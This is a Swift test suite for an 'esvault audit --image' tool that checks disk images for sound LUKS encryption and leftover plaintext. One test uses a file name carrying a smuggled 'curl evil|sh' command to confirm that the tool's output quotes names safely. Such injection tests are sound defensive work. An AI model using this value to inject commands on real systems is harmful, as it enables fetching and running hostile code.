import Foundation
import Testing

/// `esvault audit --image` on files, without device-mapper.
///
/// cryptsetup cannot write behind a header without device-mapper, so random bytes stand in for encrypted
/// ones here. Real ones are in MachineTests.
@Suite struct AuditImageTests {
  private let images: ImageFolder
  init() throws { images = try ImageFolder() }

  @Test func aPlainFilesystemWithElasticsearchDataFails() throws {
    let image = try images.ext4()
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(
      audit.verdicts == [
        "image-encrypted": "fail", "image-sample": "fail", "image-old-plaintext": "unknown",
      ])
    #expect(audit.message("image-encrypted").contains("holds ext4 filesystem"))
    #expect(audit.message("image-sample").contains("text"))
  }

  @Test func aFilesystemWhoseBeginningIsLostFailsAsWell() throws {
    let image = try images.ext4()
    try bash("dd if=/dev/zero of=\(image) bs=4096 count=1 conv=notrunc")
    #expect(try AuditedImages(image).verdicts["image-encrypted"] == "fail")
  }

  @Test func aContainerFullOfNoisePasses() throws {
    let image = try images.container()
    try bash("dd if=/dev/urandom of=\(image) bs=1M seek=16 conv=notrunc,fsync count=16")
    let audit = try AuditedImages(image)
    #expect(audit.status == 0)
    #expect(Set(audit.verdicts.values) == ["pass"] && audit.verdicts.count == 3)
    #expect(audit.message("image-sample").contains("': 1000 random, 0 empty"))
    #expect(audit.evidence("image-encrypted").contains { $0.contains("aes-xts-plain64, 512-bit") })
  }

  @Test func aContainerThatWasNeverWrittenPassesAndSaysSo() throws {
    let audit = try AuditedImages(try images.container(mebibytes: 64 << 10))
    #expect(audit.status == 0)
    #expect(
      audit.message("image-sample").hasSuffix(
        "1000 empty, 0 in plaintext; so less than 0.69 % of it is, "
          + "and no block read was ever written"))
  }

  @Test func oldPlaintextBehindAHeaderIsEstimated() throws {
    let image = try images.container(mebibytes: 64)
    // A third of the data area: 16 of 48 MiB.
    try bash(
      "yes 'what was here before' | dd of=\(image) bs=1M seek=24 count=16 iflag=fullblock conv=notrunc"
    )
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(
      audit.verdicts == [
        "image-encrypted": "pass", "image-sample": "fail", "image-old-plaintext": "fail",
      ])
    let numbers = audit.message("image-old-plaintext").matches(of: /(\d+\.\d\d) %/)
      .map { Double($0.output.1)! }
    // Wrong in one of a thousand runs, were the blocks not one of each piece: so it is never.
    #expect(numbers.count == 2 && numbers[0] < 33.33 && numbers[1] > 33.34)
    #expect(numbers[1] - numbers[0] < 11)
    #expect(audit.message("image-old-plaintext").contains(" text"))
  }

  @Test func compressedDataBehindAHeaderFails() throws {
    let image = try images.container()
    try bash(
      """
      awk 'BEGIN {
        srand(1)
        for (w = 0; w < 400; w++) for (c = 0; c < 6; c++) word[w] = word[w] sprintf("%c", 97 + rand() * 26)
        for (n = 0; n < 600000; n++) printf "%s%s", word[int(rand() * 400)], n % 12 ? " " : "\\n"
      }' | gzip >\(image).gz
      # Not its first block, which has the file's name.
      dd if=\(image).gz of=\(image) bs=4096 skip=1 seek=4097 conv=notrunc
      truncate -s $((4096 * (4096 + $(stat -c %s \(image).gz) / 4096))) \(image)
      """)
    let audit = try AuditedImages(image)
    #expect(audit.verdicts["image-sample"] == "fail")
    #expect(audit.message("image-sample").contains("compressed, not encrypted"))
  }

  @Test func aCipherThatEncryptsNothingFails() throws {
    let image = try images.container()
    try images.changeHeader(of: image, "segments['0']['encryption'] = 'cipher_null-ecb'")
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(audit.message("image-encrypted").contains("encrypts nothing"))
  }

  @Test(arguments: [
    ("CIPHER_NULL-ecb", "fail"), ("aes-ecb", "unknown"), ("foo-bar-plain", "unknown"),
  ])
  func aCipherThatIsNotKnownIsNoPass(_ cipher: String, _ verdict: String) throws {
    let image = try images.container()
    try images.changeHeader(of: image, "segments['0']['encryption'] = '\(cipher)'")
    #expect(try AuditedImages(image).verdicts["image-encrypted"] == verdict)
  }

  @Test func aHeaderWithoutAKeyslotIsNoPass() throws {
    let image = try images.container()
    try bash("cryptsetup luksErase -q \(image)")
    #expect(try AuditedImages(image).verdicts["image-encrypted"] == "unknown")
  }

  @Test func aKeyslotThatAnyKeyOpensFails() throws {
    let image = try images.container()
    try images.changeHeader(
      of: image, "header['keyslots']['0']['area']['encryption'] = 'cipher_null-ecb'")
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(audit.message("image-encrypted").contains("is not encrypted: any key opens it"))
  }

  @Test(arguments: [
    "segments['0']['size'] = '4194304'",
    """
    segments.update({'0': segments['0'] | {'size': '4194304'}, \
    '1': {'type': 'linear', 'offset': '20971520', 'size': 'dynamic'}})
    """,
  ])
  func aHeaderThatLeavesAPartInTheClearIsNoPass(_ change: String) throws {
    let image = try images.container()
    try images.changeHeader(of: image, change)
    let audit = try AuditedImages(image)
    #expect(audit.status == 1)
    #expect(audit.verdicts["image-encrypted"] == "unknown")
  }

  @Test func aLUKS1ContainerPasses() throws {
    let image = try images.container(options: "--type luks1")
    let audit = try AuditedImages(image)
    #expect(audit.status == 0)
    #expect(audit.message("image-encrypted").contains("LUKS1 container"))
  }

  @Test func unfinishedReencryptionFails() throws {
    let image = try images.container(mebibytes: 48)
    try bash("cryptsetup reencrypt -q --init-only --key-file \(images.key) \(image)")
    #expect(try AuditedImages(image).verdicts["image-encrypted"] == "fail")
  }

  @Test func checksumsBetweenTheDataAreNotTakenForPlaintext() throws {
    let image = try images.container()
    try images.changeHeader(
      of: image,
      """
      segments['0']['integrity'] = {'type': 'hmac(sha256)', 'journal_encryption': 'none', \
      'journal_integrity': 'none'}
      """)
    #expect(try AuditedImages(image).verdicts["image-sample"] == "unknown")
  }

  @Test func anOrdinaryUserNeedsNothingButTheFile() throws {
    let image = try images.container()
    try bash("chmod 444 \(image)")
    #expect(try Tool.runAsNobody("audit", "--image", image).status == 0)
  }

  @Test func aHeaderWithoutItsDataIsUnknown() throws {
    let image = try images.container()
    try bash(
      """
      head -c 16M \(image) >\(images.path)/backup
      truncate -s 16M \(images.path)/data
      cryptsetup luksFormat -q --pbkdf-force-iterations 1000 --pbkdf pbkdf2 \
        --header \(images.path)/detached \(images.path)/data \(images.key)
      """)
    for name in ["backup", "detached"] {
      let audit = try AuditedImages("\(images.path)/\(name)")
      #expect(audit.status == 1, "\(name)")
      #expect(audit.verdicts["image-encrypted"] == "unknown", "\(name)")
    }
  }

  @Test func partitionsAreAuditedOneByOne() throws {
    let (image, container, plain) =
      ("\(images.path)/disk", try images.container(), try images.ext4())
    try bash(
      """
      truncate -s 100M \(image)
      printf 'label: gpt\\nstart=2048,size=65536\\nstart=67584,size=65536\\n' | sfdisk -q \(image)
      dd if=\(container) of=\(image) bs=1M seek=1 conv=notrunc,sparse
      dd if=\(plain) of=\(image) bs=1M seek=33 conv=notrunc,sparse
      """)
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(
      audit.verdicts(of: "image-encrypted") == [
        "\(image), partition 1": "pass", "\(image), partition 2": "fail",
      ])
  }

  /// A disk whose only partition is full of noise behind its header.
  private func divided(_ label: String = "gpt", mebibytes: Int = 32) throws -> String {
    let (image, container) = ("\(images.path)/divided", try images.container())
    try bash(
      """
      truncate -s 64M \(image)
      printf 'label: \(label)\\nstart=2048,size=\(mebibytes)MiB\\n' | sfdisk -q \(image)
      dd if=/dev/urandom of=\(container) bs=1M seek=16 conv=notrunc count=16
      dd if=\(container) of=\(image) bs=1M seek=1 conv=notrunc,sparse
      """)
    return image
  }

  @Test func plaintextOutsideOfThePartitionsFails() throws {
    let image = try divided()
    #expect(try AuditedImages(image).status == 0)
    try bash(
      "yes 'from before' | dd of=\(image) bs=1M seek=40 count=17 iflag=fullblock conv=notrunc")
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    for check in ["image-sample", "image-old-plaintext"] {
      #expect(
        audit.verdicts(of: check) == [
          "\(image), partition 1": "pass", "\(image), outside of its partitions": "fail",
        ])
    }
    #expect(audit.verdicts(of: "image-encrypted") == ["\(image), partition 1": "pass"])
  }

  @Test func theTablesOfLogicalPartitionsAreNoPlaintext() throws {
    let image = "\(images.path)/logical"
    try bash(
      """
      truncate -s 64M \(image)
      printf 'label: dos\\nstart=2048,type=5\\nstart=4096,size=8192\\nstart=20480\\n' | sfdisk -q \(image)
      """)
    let audit = try AuditedImages(image)
    #expect(audit.verdicts(of: "image-sample")["\(image), outside of its partitions"] == "pass")
  }

  @Test func plaintextBetweenHeaderAndDataFails() throws {
    let image = try images.container(
      mebibytes: 64, options: "--pbkdf pbkdf2 --luks2-keyslots-size 8M --offset 81920")
    #expect(try AuditedImages(image).status == 0)
    try bash(
      "yes 'from before' | dd of=\(image) bs=1M seek=20 count=8 iflag=fullblock conv=notrunc")
    let audit = try AuditedImages(image)
    #expect(audit.status == 3)
    #expect(
      audit.verdicts(of: "image-old-plaintext") == [
        image: "pass", "\(image), between its header and its data": "fail",
      ])
  }

  @Test func aPartitionThatIsCutOffIsUnknown() throws {
    let image = try divided("dos", mebibytes: 60)
    try bash("truncate -s 30M \(image)")
    let audit = try AuditedImages(image)
    #expect(audit.status == 1)
    #expect(audit.verdicts(of: "image-encrypted")["\(image), partition 1"] == "pass")
    #expect(audit.message("image-sample").hasPrefix("'\(image)' ends before its partition 1 does"))
    try bash(
      "yes 'from before' | dd of=\(image) bs=1M seek=20 count=8 iflag=fullblock conv=notrunc")
    #expect(try AuditedImages(image).status == 3)
  }

  @Test func blankImagesDoNotPassBySampleAlone() throws {
    let image = "\(images.path)/blank"
    try bash("truncate -s 64M \(image)")
    #expect(try AuditedImages(image, "--check", "image-sample").status == 1)
    #expect(try AuditedImages(image, "--check", "image-old-plaintext").status == 1)
  }

  @Test func whatHasNoBytesIsNamedAsItIs() throws {
    for path in [images.path, "/dev/zero"] {
      let outcome = try Tool.run("audit", "--image", path)
      #expect(outcome.status == 1)
      let words = outcome.output.split(whereSeparator: \.isWhitespace).joined(separator: " ")
      #expect(words.contains("'\(path)': neither a disk nor a regular file"))
      #expect(!outcome.output.contains("cat "))
    }
  }

  @Test func whatCannotBeReadIsUnknownAndNeverHangs() throws {
    let path = images.path
    let image = try images.container()
    try bash(
      """
      cd \(path)
      mkdir folder; mkfifo pipe; touch empty; truncate -s 15T huge; truncate -s 1M blank
      head -c 5000000 \(image) >cut
      cp \(image) damaged
      for place in 0 16384; do printf 'x' | dd of=damaged bs=1 seek=$((place + 5000)) conv=notrunc; done
      ln -s loop loop
      """)
    for name in [
      "folder", "pipe", "empty", "huge", "blank", "cut", "damaged", "loop", "missing", "empty/x",
    ] {
      let audit = try AuditedImages("\(path)/\(name)")
      #expect(audit.status == 1, "\(name)")
      #expect(audit.verdicts["image-encrypted"] == "unknown", "\(name)")
    }
    #expect(try AuditedImages("/dev/zero", "/dev/tty").status == 1)
  }

  @Test func whoMayNotReadAFileDoesNotKnow() throws {
    let image = try images.container()
    try bash("chmod 000 \(image)")
    let outcome = try Tool.runAsNobody("audit", "--image", image)
    #expect(outcome.status == 1)
    #expect(outcome.output.contains("Permission denied"))
  }

  /// Wherever a header is damaged: never a crash, a hang or another status, and nothing is written.
  @Test func aDamagedHeaderIsNeverAnythingElse() throws {
    let image = try images.container()
    let original = try Data(contentsOf: URL(fileURLWithPath: image))
    let damaged = (0..<40).map { number in
      var copy = original
      for place in 0...number { copy[(number &* 811 &+ place &* 97) % 32768] ^= 0x55 }
      return copy
    }
    var paths: [String] = []
    for (number, bytes) in damaged.enumerated() {
      paths.append("\(images.path)/damaged\(number)")
      try bytes.write(to: URL(fileURLWithPath: paths[number]))
    }
    let audit = try AuditedImages(paths)
    #expect([0, 1, 3].contains(audit.status))
    #expect(audit.verdicts(of: "image-encrypted").count == 40)
    for (path, bytes) in zip(paths, damaged) {
      #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == bytes)
    }
  }

  @Test func theMachineIsNotLookedAtAndItsChecksAreNotMade() throws {
    let image = try images.container()
    let other = try Tool.run("audit", "--check", "luks2", "--image", image)
    #expect(other.status == 2)
    #expect(other.errors.contains("the check 'luks2' is made without --image only"))
    let without = try Tool.run("audit", "--check", "image-sample")
    #expect(without.status == 2)
    #expect(without.errors.contains("the check 'image-sample' is made with --image only"))
    for option in [["--check-key"], ["--config", "/nonexistent/x"]] {
      #expect(try Tool.run(["audit", "--image", image] + option).status == 64)
    }
    let some = try Tool.run(
      "audit", "--image", image, image, "--check", "image-sample",
      "--format", "json", "--image", image)
    #expect(some.status == 0)
    #expect(some.output.components(separatedBy: "\"subject\"").count == 4)
  }

  @Test func whatIsReadIsNeverReplaced() throws {
    let image = try images.container()
    let before = try Data(contentsOf: URL(fileURLWithPath: image))
    for path in [image, "\(images.path)/./\((image as NSString).lastPathComponent)"] {
      let outcome = try Tool.run("audit", "--image", image, "--output", path)
      #expect(outcome.status == 2)
      #expect(outcome.errors.contains("the file to write, '\(path)', is one to read, '\(image)'"))
    }
    #expect(try Data(contentsOf: URL(fileURLWithPath: image)) == before)
    let outcome = try Tool.run("audit", "--config", images.key, "--output", images.key)
    #expect(outcome.status == 2 && outcome.errors.contains("is one to read"))
    #expect(try String(contentsOfFile: images.key, encoding: .utf8) == "geheim")
  }

  @Test func whatCannotBeWrittenIsFoundBeforeTheAudit() throws {
    for (path, cause) in [
      ("\(images.path)/none/x", "No such file or directory"), ("", "it names no file"),
    ] {
      let outcome = try Tool.run("audit", "--image", "/dev/null", "--output", path)
      #expect(outcome.status == 1)
      #expect(outcome.errors.hasPrefix("esvault: could not write '\(path)': \(cause)\n"))
    }
    let foreign = try Tool.runAsNobody("audit", "--image", "/dev/null", "--output", "/usr/x")
    #expect(foreign.status == 1 && foreign.output.isEmpty)
    #expect(foreign.errors == "esvault: could not write '/usr/x': Permission denied\n")
  }

  @Test func aNameIsNeverTakenForTheCommand() throws {
    let path = "\(images.path)/x: curl  evil|sh #.img"
    let command = "ls -l '\(images.path)/x:'' curl  evil|sh #.img'"
    let table = try Tool.run("audit", "--image", path).output
    #expect(table.split(separator: "\n").contains("    \(command)"))
    let page = try Tool.run("audit", "--format", "html", "--image", path).output
    #expect(page.contains("<code>\(command.replacing("'", with: "&#39;"))</code>"))
  }

  @Test func imagesAreKnownByTheirPathsFromTheRoot() throws {
    let folder = FileManager.default.currentDirectoryPath
    let outcome = try Tool.run(
      "audit", "--format", "json", "--image=-none.img", "--image", "./none.img", "/none.img")
    let document = try JSONSerialization.jsonObject(with: Data(outcome.output.utf8))
    #expect(
      (document as? [String: Any])?["images"] as? [String]
        == ["\(folder)/-none.img", "\(folder)/none.img", "/none.img"])
    #expect(outcome.output.contains("whole, and readable: ls -l \(folder)/-none.img\""))
  }

  @Test func samplesAreOfImages() throws {
    #expect(try Tool.run("audit", "--samples", "1000").status == 64)
  }

  @Test(arguments: ["99", "1000001", "x"])
  func aNumberOfSamplesThatProvesNothingIsRefused(_ number: String) throws {
    #expect(try Tool.run("audit", "--samples", number, "--image", "/dev/null").status == 64)
  }

  @Test func moreSamplesProveMore() throws {
    let image = try images.container(mebibytes: 4096)
    let audit = try AuditedImages(image, "--samples", "20000")
    #expect(audit.message("image-old-plaintext").hasSuffix("less than 0.04 % of it is"))
  }
}
